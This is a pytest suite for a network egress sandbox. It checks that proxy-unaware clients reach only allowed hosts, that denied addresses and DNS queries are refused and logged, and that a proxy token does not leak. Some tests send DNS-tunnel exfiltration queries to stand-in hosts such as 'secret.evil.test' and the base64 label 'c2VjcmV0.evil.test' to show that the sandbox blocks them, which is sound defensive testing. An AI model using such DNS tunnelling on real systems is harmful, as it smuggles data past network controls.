"""Programs that know of no proxy, in whole sessions: the library as a Mac has it brings them to the real doors.

Landlock refuses them every other TCP port; it knows no UDP, so of names it is the library and the door that are tried.
"""

from __future__ import annotations

import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from netsandbox_portmap.localhost_settings import LocalhostSettings

from netsandbox.backends.seatbelt.mac_system import MacSystem
from netsandbox.frozen import copy_with
from netsandbox.policy.policy import Policy
from tests.rig.authority import Authority
from tests.rig.canary import Canaries
from tests.rig.mac_doors import compile_library
from tests.rig.world import ALLOWED, DENIED, need

pytestmark = pytest.mark.skipif(
    sys.platform != "linux", reason="plays a Mac on Linux; test_backend_on_a_mac.py needs no play"
)

SOURCES = Path(__file__).parents[3] / "interpose" / "src"
STRATEGIES = ["fail", "rewire-port", "rewire-device"]
BODY = b"through the doors\n"
URLLIB = """
import sys, urllib.request
print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(sys.argv[1], timeout=20).read().decode())
"""
NODE = """
require("http").get(process.argv[1], r => r.on("data", d => process.stdout.write(d)))
  .on("error", error => { console.log(error.code); process.exit(1); })
"""
FETCH = "fetch(process.argv[1]).then(r => r.text()).then(t => process.stdout.write(t))"
CLIENTS: dict[str, Callable[[], list[str]]] = {
    "curl": lambda: [need("curl", "curl"), "-sS", "--noproxy", "*", "-m", "20"],
    "wget": lambda: [need("wget", "wget"), "--no-proxy", "-qO-", "-t1"],
    "urllib": lambda: [sys.executable, "-c", URLLIB],
    "node": lambda: [need("node", "nodejs"), "-e", NODE],
    "fetch": lambda: [need("node", "nodejs"), "-e", FETCH],
}
BOTH = '"$@" "$GOOD"; echo "good=$?"; "$@" "$BAD" 2>&1; echo "bad=$?"'


@pytest.fixture(scope="session")
def library(tmp_path_factory: pytest.TempPathFactory) -> str:
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        pytest.skip("needs a C compiler")
    return str(compile_library(compiler, SOURCES, tmp_path_factory.mktemp("egress")))


@pytest.fixture
def system(system: MacSystem, library: str) -> MacSystem:
    return copy_with(system, library=library)


class Town:
    """A server that may be reached and one that may not, their names, and sessions that let the first through."""

    def __init__(self, mac: Any, canary: Canaries, authority: Authority) -> None:
        self._mac = mac
        self.good, self.bad = canary.http(body=BODY), canary.http(body=b"forbidden\n")
        self.authority = authority
        for name in (ALLOWED, DENIED, "www.wild.test"):
            authority.answer(name, "127.0.0.1")

    @property
    def policy(self) -> Policy:
        """The address guard is lifted for both servers, so that a denial is the name's alone."""
        domains = [f"{ALLOWED}:{self.good.port}", f"*.wild.test:{self.good.port}"]
        return Policy(allow_domains=domains, allow_addresses=[self.good.address, self.bad.address])

    def run(self, *command: str, strategy: str = "rewire-port", **settings: Any) -> Any:
        urls = {"GOOD": f"http://{ALLOWED}:{self.good.port}/", "BAD": f"http://{DENIED}:{self.bad.port}/"}
        settings = {"policy": self.policy, **settings}
        local = LocalhostSettings(strategy=strategy, count=4)
        host, _, port = self.authority.address.rpartition(":")
        return self._mac(*command, env=urls, localhost=local, upstream_dns=((host, int(port)),), **settings)

    def python(self, text: str, **settings: Any) -> Any:
        return self.run(sys.executable, "-c", ATTEMPT + text, **settings)


ATTEMPT = """
import errno, os, socket
def attempt(call, *arguments):
    try: return call(*arguments)
    except socket.gaierror as error: return "no address"
    except OSError as error: return errno.errorcode.get(error.errno, str(error))
def resolve(name):
    return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
def speak(address, port, data=b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"):
    with socket.create_connection((address, port), 20) as sock:
        sock.sendall(data)
        return len(sock.recv(100)) > 0
"""


@pytest.fixture
def town(mac: Any, canary: Canaries, authority: Authority) -> Town:
    pytest.importorskip("netsandbox_interpose._native")
    return Town(mac, canary, authority)


@pytest.mark.parametrize(
    ("client", "strategy"),
    [("curl", strategy) for strategy in STRATEGIES]
    + [(client, "rewire-port") for client in ("wget", "urllib", "node", "fetch")]
    + [("urllib", "fail"), ("node", "rewire-device")],
)
def test_a_program_reaches_what_is_allowed_and_nothing_else(town: Town, client: str, strategy: str) -> None:
    ended = town.run("sh", "-c", BOTH, "sh", *CLIENTS[client](), strategy=strategy)
    assert BODY.decode() in ended.stdout, ended.stdout + ended.stderr
    assert "good=0" in ended.stdout
    assert "bad=0" not in ended.stdout
    assert (town.good.accepts, town.bad.accepts) == (1, 0)
    (granted,) = [record for record in ended.of("egress") if record["verdict"] == "allow"]
    assert (granted["door"], granted["host"], granted["port"]) == ("transparent", ALLOWED, town.good.port)
    asked = {record["host"]: record["verdict"] for record in ended.of("dns") if record["door"] == "dns"}
    assert asked == {ALLOWED: "allow", DENIED: "deny"}
    assert town.authority.count(DENIED) == 0


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_an_address_that_is_not_allowed_is_reset_and_recorded(town: Town, strategy: str) -> None:
    """The kernel would refuse the address itself; the door knows whom to name in the log."""
    text = f"print(attempt(speak, '192.0.2.7', 443), attempt(speak, '198.18.9.9', {town.good.port}))"
    ended = town.python(text, strategy=strategy)
    assert ended.stdout == "ECONNRESET ECONNRESET\n", ended.stderr
    denied = [record for record in ended.of("egress") if record["verdict"] == "deny"]
    assert [(each["door"], each["address"]) for each in denied] == [
        ("transparent", "192.0.2.7"),
        ("transparent", "198.18.9.9"),
    ]
    assert (town.good.accepts, town.bad.accepts) == (0, 0)


@pytest.mark.attack(66)
@pytest.mark.attack(67)
@pytest.mark.attack(72)
def test_names_carry_nothing_out(town: Town) -> None:
    """A question that looks like a tunnel has no answer and reaches no server; its twin has one."""
    text = """
print(attempt(resolve, "0123456789abcdef" * 3 + "0123456789ab.wild.test"), attempt(resolve, "secret.evil.test"))
print(attempt(resolve, "www.wild.test"))
"""
    ended = town.python(text)
    refused, given = ended.stdout.splitlines()
    assert refused == "no address no address", ended.stderr
    assert given.startswith("198.18.")
    assert town.authority.queries == []
    denied = {record["host"]: record["reason"] for record in ended.of("dns") if record["verdict"] == "deny"}
    assert sorted(denied.values()) == ["not-allowed", "tunnel-label"]


@pytest.mark.attack(68)
@pytest.mark.attack(71)
@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
def test_a_program_that_speaks_dns_itself_speaks_it_with_the_session(town: Town, transport: str) -> None:
    dig = [need("dig", "bind9-dnsutils"), "+short", "+tries=1", "+noedns", transport, "@192.0.2.53"]
    script = '"$@" allowed.test A; "$@" c2VjcmV0.evil.test A; "$@" allowed.test TXT; echo end'
    ended = town.run("sh", "-c", script, "sh", *dig)
    given, end = ended.stdout.splitlines()
    assert (given.startswith("198.18."), end) == (True, "end"), ended.stderr
    assert town.authority.queries == []
    assert {record["reason"] for record in ended.of("dns") if record["verdict"] == "deny"} == {
        "not-allowed",
        "query-type",
    }


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_who_knows_of_the_proxy_reaches_it_whatever_is_rewritten(town: Town, strategy: str) -> None:
    """With `rewire-device` 127.0.0.1 is another address inside; the doors keep theirs."""
    curl = [need("curl", "curl"), "-sS", "-m", "20", "-o", os.devnull, "-w", "%{http_code} "]
    ended = town.run("sh", "-c", '"$@" "$GOOD"; "$@" "$BAD"', "sh", *curl, strategy=strategy)
    assert ended.stdout == "200 403 ", ended.stderr
    assert {record["door"] for record in ended.of("egress")} == {"http"}
    assert (town.good.accepts, town.bad.accepts) == (1, 0)


def test_the_librarys_word_for_a_port_outside_of_the_window_is_recorded_with_fail(town: Town) -> None:
    text = "print(attempt(socket.create_server, ('127.0.0.1', 3000)))"
    ended = town.python(text, strategy="fail")
    assert ended.stdout == "EACCES\n"
    assert "netsandbox: bind to 127.0.0.1:3000 refused" in ended.stderr
    (record,) = ended.of("bind")
    assert (record["verdict"], record["reason"], record["door"]) == ("deny", "outside-window", "preload")


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_where_nothing_is_allowed_the_kernel_refuses_alone(town: Town, strategy: str) -> None:
    """INV-7: there is no door, so the library leaves every address to the kernel."""
    ended = town.python(
        f"print(attempt(speak, '192.0.2.7', 443), attempt(speak, '127.0.0.1', {town.good.port}))",
        strategy=strategy,
        policy=Policy(),
    )
    assert ended.stdout == "EACCES EACCES\n", ended.stderr
    assert ended.of("egress") == []
    assert town.good.accepts == 0


def test_the_token_is_in_no_log_and_no_line(town: Town) -> None:
    text = """
table = open(os.environ["NETSANDBOX_PORT_MAP"], "rb").read()
url = os.environ["HTTP_PROXY"]
token = url.partition("netsandbox:")[2].partition("@")[0]
print(token, bytes.fromhex(token) in table, attempt(speak, "192.0.2.7", 443))
"""
    ended = town.python(text)
    token, same, refused = ended.stdout.split()
    assert (same, refused) == ("True", "ECONNRESET"), ended.stderr
    for path in ended.state.rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes()
            assert bytes.fromhex(token) not in path.read_bytes()
